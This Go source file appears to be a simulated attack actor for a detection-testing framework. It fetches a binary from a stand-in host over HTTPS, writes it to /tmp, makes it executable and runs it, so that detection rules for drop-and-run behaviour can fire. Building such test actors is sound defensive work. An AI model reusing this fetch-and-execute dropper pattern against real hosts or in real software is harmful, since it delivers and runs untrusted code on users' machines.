// Command dropper-https fetches a program, writes it to /tmp and runs it. What
// the simulated internet hands out ends at once; of a real host there is none.
//
// Rule: execution/runs-download, drops-and-runs, temporary-program and
// written-program.
package main

import (
	"context"
	"fmt"
	"net/http"
	"os"
	"os/exec"

	"github.com/detonaut/detonaut/actors/stage"
	"github.com/detonaut/detonaut/actors/wire"
)

const dropped = "/tmp/agent"

func main() { stage.Play(drop) }

func drop(ctx context.Context) error {
	program, err := wire.Request(ctx, http.DefaultClient, http.MethodGet, "https://files.stage.example/agent.bin", nil)
	if err != nil {
		return err
	}
	if err := os.WriteFile(dropped, program, 0o600); err != nil {
		return err
	}
	if err := os.Chmod(dropped, 0o755); err != nil {
		return err
	}
	cmd := exec.CommandContext(ctx, dropped)
	cmd.Stdout, cmd.Stderr = os.Stdout, os.Stderr
	if err := cmd.Run(); err != nil {
		return err
	}
	fmt.Printf("ran %d bytes\n", len(program))
	return nil
}
